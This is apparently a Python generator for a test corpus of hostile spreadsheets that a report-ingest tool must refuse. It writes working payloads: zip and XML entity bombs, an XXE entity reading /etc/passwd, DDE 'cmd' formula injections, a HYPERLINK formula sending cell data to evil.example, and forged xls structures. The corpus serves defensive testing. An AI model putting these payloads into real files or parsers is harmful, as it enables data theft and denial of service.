"""Make the hostile test corpus: broken, disguised and malicious files that ncctd must refuse.

    python tests/data/hostile/make_hostile.py              # small files → tests/data/hostile/corpus/
    python tests/data/hostile/make_hostile.py --large      # + big ones → tests/data/hostile/generated/
    python tests/data/hostile/make_hostile.py --tools      # + encrypted/xls files (LibreOffice,
                                                           #   msoffcrypto-tool), committed

The small files are committed (a few KB each). The big ones (a 1.5 GB zip bomb, a zip that lies
about its sizes, a 30 MB single-line CSV, millions of empty rows, a zip of 20,000 parts) take a
second or two to write and are never committed: tests write them into a temporary folder with
:func:`write_large`. The files that need outside tools (a password-protected xlsx, xls and ods;
an xls whose sheets span 65536 × 256 cells) are committed, made once with ``--tools``.

Everything is built from one good sample return (``samples-2024q1``), by hand with zipfile and
zlib: the bombs are real (their deflate streams unpack to what they say, or more), only made
fast by repeating one compressed block.
"""

from __future__ import annotations

import argparse
import io
import random
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"
GENERATED = HERE / "generated"
SAMPLES = HERE.parent / "samples-2024q1" / "returns"
GOOD_XLSX = SAMPLES / "bc_04456_2024-01.xlsx"  # Mù Căng Chải, 1/2024
GOOD_ODS = SAMPLES / "bc_04462_2024-02.ods"
GOOD_XLS = SAMPLES / "bc_04465_2024-01.xls"
FIXED_TIME = (2024, 1, 31, 8, 0, 0)
MB = 1024 * 1024

# What each file is refused with (the stable problem code), for the tests and for people.
# Workbooks are read in a worker process under a memory limit: a file that makes calamine ask
# for more memory than a machine has is refused as that (reader-out-of-memory). READ: a file
# once refused by a hand-made check that calamine in fact reads well (a forged count it does
# not trust); it is read as the return it holds.
READ = "read"
EXPECTED: dict[str, str] = {
    "empty.xlsx": "empty-file",
    "blank.csv": "empty-file",
    "truncated.xlsx": "corrupt-file",
    "truncated.ods": "corrupt-file",
    "truncated.xls": "corrupt-file",
    "pdf_named.xlsx": "not-a-spreadsheet",
    "png_named.xlsx": "not-a-spreadsheet",
    "word_named.xlsx": "not-a-spreadsheet",
    "random.xls": "not-a-spreadsheet",
    "random.ods": "not-a-spreadsheet",
    "xlsb_named.xlsx": "unsupported-format",
    "nul_bytes.csv": "binary-content",
    "billion_laughs.xlsx": "unsafe-xml",
    "xxe.xlsx": "unsafe-xml",
    "billion_laughs.ods": "unsafe-xml",
    "xxe.ods": "unsafe-xml",
    "far_cell.xlsx": "reader-out-of-memory",  # calamine asks for 512 GB
    "far_cell.ods": "too-many-cells",  # calamine's own bound for ods
    "ratio_bomb.xlsx": "decompression-bomb",
    "lying_sizes.xlsx": "decompression-bomb",
    "formula_values.xlsx": "formula-text",
    "formula_values.csv": "formula-text",
    "formula_commune.xlsx": "unknown-commune",
    "dimensions_bomb.xls": "reader-out-of-memory",  # calamine asks for 40 TB
    "sst_bomb.xls": READ,  # calamine reserves the strings it reads, not the count declared
    "cyclic_directory.xls": "reader-out-of-memory",  # calamine follows the loop, allocating
    # made with --tools (committed)
    "encrypted.xlsx": "password-protected",
    "encrypted.xls": "password-protected",
    "encrypted.ods": "password-protected",
    "far_cells.xls": "reader-out-of-memory",  # eight sheets of 65536 × 256 cells
}
EXPECTED_LARGE: dict[str, str] = {
    "zip_bomb.xlsx": "decompression-bomb",
    "lying_bomb.xlsx": "decompression-bomb",
    "long_line.csv": "line-too-long",
    "empty_rows.csv": "empty-file",
    "many_parts.xlsx": "too-many-parts",
}
TOOL_FILES = ("encrypted.xlsx", "encrypted.xls", "encrypted.ods", "far_cells.xls")


# ------------------------------------------------------------------ zips


def _members(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    """A zip with fixed timestamps (the same bytes every run on one zlib)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, FIXED_TIME)
            info.compress_type = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def _patched(path: Path, part: str, change: Callable[[bytes], bytes]) -> bytes:
    members = _members(path)
    assert any(name == part for name, _ in members), part
    return _zip([(name, change(data) if name == part else data) for name, data in members])


def _raw_zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip written by hand: (name, deflated bytes, crc, declared size, method) per member,
    so a member can declare any size whatever its data unpacks to."""
    body = bytearray()
    central = bytearray()
    dos_time = 0x4000  # 08:00:00
    dos_date = ((2024 - 1980) << 9) | (1 << 5) | 31
    for name, data, crc, size, method in members:
        encoded = name.encode()
        offset = len(body)
        body += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, method, dos_time, dos_date, crc, len(data), size,
            len(encoded), 0,
        )
        body += encoded + data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, dos_time, dos_date, crc,
            len(data), size, len(encoded), 0, 0, 0, 0, 0, offset,
        )
        central += encoded
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(body), 0
    )
    return bytes(body + central + end)


def _deflated_padding(prefix: bytes, megabytes: int, suffix: bytes, fill: bytes = b" ") -> tuple[bytes, int, int]:
    """Deflate ``prefix + megabytes × 1 MB of fill + suffix`` fast: after a full flush the
    compressor starts afresh, so each megabyte compresses to the same ~1 KB, written once and
    repeated. Returns (deflated bytes, crc32, unpacked size)."""
    block = fill * MB
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    middle = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.compress(suffix) + compressor.flush()
    crc = zlib.crc32(prefix)
    for _ in range(megabytes):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(suffix, crc)
    return head + middle * megabytes + tail, crc, len(prefix) + megabytes * MB + len(suffix)


def _bomb(megabytes: int, *, lie: bool) -> bytes:
    """The good return whose shared strings hold one string of ``megabytes`` MB of spaces
    (calamine would hold it all in memory); ``lie``: the zip declares 1 KB for that part."""
    members = []
    for name, data in _members(GOOD_XLSX):
        if name == "xl/sharedStrings.xml":
            cut = data.index(b"</sst>")
            deflated, crc, size = _deflated_padding(
                data[:cut] + b'<si><t xml:space="preserve">', megabytes, b"</t></si></sst>"
            )
            members.append((name, deflated, crc, 1024 if lie else size, 8))
        else:
            deflated = zlib.compress(data, 9)[2:-4]
            members.append((name, deflated, zlib.crc32(data), len(data), 8))
    return _raw_zip(members)


# ------------------------------------------------------------------ XML attacks

_LAUGHS = (
    b'<!DOCTYPE %s [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
)
_XXE = b'<!DOCTYPE %s [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _with_dtd(data: bytes, dtd: bytes, old: bytes, new: bytes) -> bytes:
    decl_end = data.index(b"?>") + 2
    assert old in data, old
    return data[:decl_end] + dtd + data[decl_end:].replace(old, new, 1)


# ------------------------------------------------------------------ the small corpus


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    pixels = zlib.compress(b"\x00\xff\x00\x00" * 1)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


_PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


def _word() -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
            ("word/document.xml", b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>B\xc3\xa1o c\xc3\xa1o</w:t></w:r></w:p></w:body></w:document>'),
        ]
    )


def _xlsb() -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
            ("xl/workbook.bin", bytes(range(64))),
            ("xl/worksheets/sheet1.bin", bytes(range(64))),
        ]
    )


def _far_cell_xlsx() -> bytes:
    # A1 holds the title; one value typed by mistake at the very last cell of the sheet
    return _patched(
        GOOD_XLSX,
        "xl/worksheets/sheet1.xml",
        lambda d: d.replace(
            b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>', 1
        ),
    )


def _far_cell_ods() -> bytes:
    def change(d: bytes) -> bytes:
        i = d.index(b"</table:table>")
        far = (
            b'<table:table-row table:number-rows-repeated="1048000"><table:table-cell '
            b'table:number-columns-repeated="1024"/></table:table-row><table:table-row>'
            b'<table:table-cell table:number-columns-repeated="1023"/><table:table-cell '
            b'office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'
            b"</table:table-row>"
        )
        return d[:i] + far + d[i:]

    return _patched(GOOD_ODS, "content.xml", change)


def _ratio_bomb() -> bytes:
    """20 MB of spaces in 20 KB: under the total limit, but 1000:1 for one part."""
    members = []
    for name, data in _members(GOOD_XLSX):
        deflated = zlib.compress(data, 9)[2:-4]
        members.append((name, deflated, zlib.crc32(data), len(data), 8))
    deflated, crc, size = _deflated_padding(b"", 20, b"")
    members.append(("xl/media/image1.png", deflated, crc, size, 8))
    return _raw_zip(members)


def _formula_values() -> bytes:
    cells = {
        b'<c r="E9" s="0" t="n"><v>7</v></c>': '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
        b'<c r="E10" s="0" t="n"><v>19</v></c>': "+cmd|' /C calc'!A0",
        b'<c r="E11" s="0" t="n"><v>736</v></c>': "@SUM(1+1)*cmd|' /C calc'!A0",
    }

    def change(d: bytes) -> bytes:
        for old, text in cells.items():
            ref = old.split(b'"')[1]
            escaped = text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
            new = b'<c r="%s" s="0" t="inlineStr"><is><t>%s</t></is></c>' % (ref, escaped.encode())
            assert old in d, old
            d = d.replace(old, new, 1)
        return d

    return _patched(GOOD_XLSX, "xl/worksheets/sheet1.xml", change)


def _formula_commune() -> bytes:
    members = []
    for name, data in _members(GOOD_XLSX):
        if name == "xl/sharedStrings.xml":
            data = data.replace(
                "Xã/Thị trấn: Mù Căng Chải".encode(),
                "Xã/Thị trấn: =cmd|' /C calc'!A0".encode(),
            )
        if name == "xl/workbook.xml":
            data = data.replace('name="Báo cáo"'.encode(), b'name="@SUM(A1)"')
        members.append((name, data))
    return _zip(members)


def _xls_records(data: bytes) -> tuple[list[int], bytes]:
    """The Workbook stream of an xls and, for each of its bytes' sectors, the file sector."""
    import olefile

    with olefile.OleFileIO(io.BytesIO(data)) as ole:
        entry = next(e for e in ole.direntries if e is not None and e.name == "Workbook")
        chain, sector = [], entry.isectStart
        while sector not in (olefile.ENDOFCHAIN, olefile.FREESECT):
            chain.append(sector)
            sector = ole.fat[sector]
        return chain, ole.openstream("Workbook").read()


def _patch_xls(change: Callable[[bytearray], None]) -> bytes:
    """The good xls with its Workbook stream changed in place (same length)."""
    data = bytearray(GOOD_XLS.read_bytes())
    chain, stream = _xls_records(bytes(data))
    new = bytearray(stream)
    change(new)
    for offset, (old_byte, new_byte) in enumerate(zip(stream, new, strict=True)):
        if old_byte != new_byte:
            data[(chain[offset // 512] + 1) * 512 + offset % 512] = new_byte
    return bytes(data)


def _find_record(stream: bytearray, rtype: int) -> int:
    pos = 0
    while pos + 4 <= len(stream):
        kind, length = struct.unpack_from("<HH", stream, pos)
        if kind == rtype:
            return pos + 4
        pos += 4 + length
    raise LookupError(hex(rtype))


def _dimensions_bomb(stream: bytearray) -> None:
    # DIMENSIONS says rows 0..4294967294, columns 0..255: calamine reserves that many cells
    body = _find_record(stream, 0x0200)
    struct.pack_into("<IIHH", stream, body, 0, 0xFFFFFFFF, 0, 0x00FF)


def _sst_bomb(stream: bytearray) -> None:
    # the shared string table says it holds 2^31 - 1 strings: calamine reserves room for them
    body = _find_record(stream, 0x00FC)
    struct.pack_into("<i", stream, body + 4, 0x7FFFFFFF)


def _cyclic_directory() -> bytes:
    """The good xls whose directory sector chain points back to itself: calamine follows it
    for ever, allocating, until the machine runs out of memory."""
    data = bytearray(GOOD_XLS.read_bytes())
    dir_start = struct.unpack_from("<I", data, 0x30)[0]
    fat_sector = struct.unpack_from("<I", data, 0x4C)[0]  # this small file has one FAT sector
    struct.pack_into("<I", data, (fat_sector + 1) * 512 + dir_start * 4, dir_start)
    return bytes(data)


def small_files() -> dict[str, bytes]:
    """The committed corpus, except the files made with outside tools."""
    rng = random.Random(6)
    good_xlsx = GOOD_XLSX.read_bytes()
    good_ods = GOOD_ODS.read_bytes()
    good_xls = GOOD_XLS.read_bytes()
    return {
        "empty.xlsx": b"",
        "blank.csv": b"  \r\n\r\n \t\n",
        "truncated.xlsx": good_xlsx[: len(good_xlsx) // 2],
        "truncated.ods": good_ods[: len(good_ods) // 2],
        "truncated.xls": good_xls[: len(good_xls) // 3],
        "pdf_named.xlsx": _PDF,
        "png_named.xlsx": _png(),
        "word_named.xlsx": _word(),
        "random.xls": rng.randbytes(4096),
        "random.ods": rng.randbytes(4096),
        "xlsb_named.xlsx": _xlsb(),
        "nul_bytes.csv": "Xã;Kỳ báo cáo;Chỉ tiêu;Số lượng\nMù Căng Chải;1/2024;leader_visits;7\x00\x00\x00\n".encode(),
        "billion_laughs.xlsx": _patched(
            GOOD_XLSX,
            "xl/sharedStrings.xml",
            lambda d: _with_dtd(d, _LAUGHS % b"sst", "Kỳ báo cáo: 1/2024".encode(), b"&lol9;"),
        ),
        "xxe.xlsx": _patched(
            GOOD_XLSX,
            "xl/sharedStrings.xml",
            lambda d: _with_dtd(d, _XXE % b"sst", "Kỳ báo cáo: 1/2024".encode(), b"&xxe;"),
        ),
        "billion_laughs.ods": _patched(
            GOOD_ODS,
            "content.xml",
            lambda d: _with_dtd(d, _LAUGHS % b"office:document-content", "Kỳ báo cáo".encode(), b"&lol9;"),
        ),
        "xxe.ods": _patched(
            GOOD_ODS,
            "content.xml",
            lambda d: _with_dtd(d, _XXE % b"office:document-content", "Kỳ báo cáo".encode(), b"&xxe;"),
        ),
        "far_cell.xlsx": _far_cell_xlsx(),
        "far_cell.ods": _far_cell_ods(),
        "ratio_bomb.xlsx": _ratio_bomb(),
        "lying_sizes.xlsx": _bomb(8, lie=True),
        "formula_values.xlsx": _formula_values(),
        "formula_values.csv": (
            "Xã;Kỳ báo cáo;Chỉ tiêu;Số lượng\n"
            "Mù Căng Chải;1/2024;leader_visits;\"=HYPERLINK(\"\"http://evil.example\"\",\"\"Bấm\"\")\"\n"
            "Mù Căng Chải;1/2024;propaganda_sessions;+cmd|' /C calc'!A0\n"
            "Mù Căng Chải;1/2024;propaganda_listeners;@SUM(1+1)\n"
            "Mù Căng Chải;1/2024;citizen_participations;\t=1+1\n"
        ).encode(),
        "formula_commune.xlsx": _formula_commune(),
        "dimensions_bomb.xls": _patch_xls(_dimensions_bomb),
        "sst_bomb.xls": _patch_xls(_sst_bomb),
        "cyclic_directory.xls": _cyclic_directory(),
    }


def write_small(folder: Path = CORPUS) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, data in small_files().items():
        path = folder / name
        path.write_bytes(data)
        written.append(path)
    return written


# ------------------------------------------------------------------ the large files


def write_large(folder: Path = GENERATED, *, bomb_mb: int = 1536) -> dict[str, Path]:
    """The big hostile files (about 50 MB on disk in all; a second or two to write)."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {name: folder / name for name in EXPECTED_LARGE}
    paths["zip_bomb.xlsx"].write_bytes(_bomb(bomb_mb, lie=False))
    paths["lying_bomb.xlsx"].write_bytes(_bomb(bomb_mb // 2, lie=True))
    with paths["long_line.csv"].open("wb") as fh:  # 30 MB, one line
        fh.write("Xã;Kỳ báo cáo;Chỉ tiêu;Số lượng;".encode())
        fh.write(b"1;" * (15 * MB))
        fh.write(b"\n")
    with paths["empty_rows.csv"].open("wb") as fh:  # 3 million rows of nothing
        fh.write(b";;;;;\r\n" * 3_000_000)
    parts = [(f"xl/media/p{i}.xml", b"") for i in range(20_000)]
    paths["many_parts.xlsx"].write_bytes(_zip([*_members(GOOD_XLSX), *parts]))
    return paths


# ------------------------------------------------------------------ files made with outside tools


def write_with_tools(folder: Path = CORPUS) -> None:
    """Password-protected files (LibreOffice for xls/ods, msoffcrypto-tool for xlsx: LibreOffice
    7.4 writes an xlsx password as no encryption at all) and an xls spanning 65536 × 256 cells
    on eight sheets. Needs ``soffice`` and ``pip install msoffcrypto-tool``; run once, commit."""
    folder.mkdir(parents=True, exist_ok=True)
    from msoffcrypto.format.ooxml import OOXMLFile  # only here: not a dependency of ncctd

    with GOOD_XLSX.open("rb") as src, (folder / "encrypted.xlsx").open("wb") as out:
        OOXMLFile(src).encrypt("matkhau", out)
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        script = work / "save.py"
        script.write_text(_UNO_SCRIPT, encoding="utf-8")
        far = work / "far.xlsx"
        _far_xlsx_with_openpyxl(far)
        subprocess.run(
            ["/usr/bin/python3", str(script), str(GOOD_XLSX), str(far), str(folder), str(work)],
            check=True,
            timeout=300,
        )


def _far_xlsx_with_openpyxl(path: Path) -> None:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for i in range(8):
        if i:
            sheet = book.create_sheet(f"Trang {i + 1}")
        sheet["A1"] = 1
        sheet["IV65536"] = 2
    book.save(path)


_UNO_SCRIPT = r'''
import os, subprocess, sys, time
import uno
from com.sun.star.beans import PropertyValue

def prop(name, value):
    p = PropertyValue(); p.Name = name; p.Value = value; return p

good, far, out, work = sys.argv[1:5]
port = 2199
office = subprocess.Popen(["soffice", "--headless", "--invisible", "--norestore",
    "-env:UserInstallation=" + uno.systemPathToFileUrl(os.path.join(work, "profile")),
    "--accept=socket,host=127.0.0.1,port=%d;urp;" % port],
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
local = uno.getComponentContext()
resolver = local.ServiceManager.createInstanceWithContext("com.sun.star.bridge.UnoUrlResolver", local)
for _ in range(120):
    try:
        ctx = resolver.resolve("uno:socket,host=127.0.0.1,port=%d;urp;StarOffice.ComponentContext" % port)
        break
    except Exception:
        time.sleep(0.5)
desktop = ctx.ServiceManager.createInstanceWithContext("com.sun.star.frame.Desktop", ctx)
def load(path):
    return desktop.loadComponentFromURL(uno.systemPathToFileUrl(os.path.abspath(path)), "_blank", 0, (prop("Hidden", True),))
doc = load(good)
for name, filt in (("encrypted.xls", "MS Excel 97"), ("encrypted.ods", "calc8")):
    doc.storeToURL(uno.systemPathToFileUrl(os.path.join(out, name)), (prop("FilterName", filt), prop("Password", "matkhau")))
doc.close(True)
doc = load(far)
doc.storeToURL(uno.systemPathToFileUrl(os.path.join(out, "far_cells.xls")), (prop("FilterName", "MS Excel 97"),))
doc.close(True)
try:
    desktop.terminate()
except Exception:
    pass
office.wait(timeout=60)
'''


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--out", type=Path, help="folder for the small files (default: corpus/)")
    parser.add_argument("--large", action="store_true", help="also write the big files")
    parser.add_argument("--large-out", type=Path, default=GENERATED)
    parser.add_argument("--tools", action="store_true", help="also make the encrypted/xls files")
    args = parser.parse_args(argv)
    folder = args.out or CORPUS
    for path in write_small(folder):
        print(path)
    if args.tools:
        write_with_tools(folder)
        for name in TOOL_FILES:
            print(folder / name)
    elif folder != CORPUS:
        for name in TOOL_FILES:  # the committed ones, so the folder holds the whole corpus
            shutil.copy(CORPUS / name, folder / name)
    if args.large:
        for path in write_large(args.large_out).values():
            print(path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
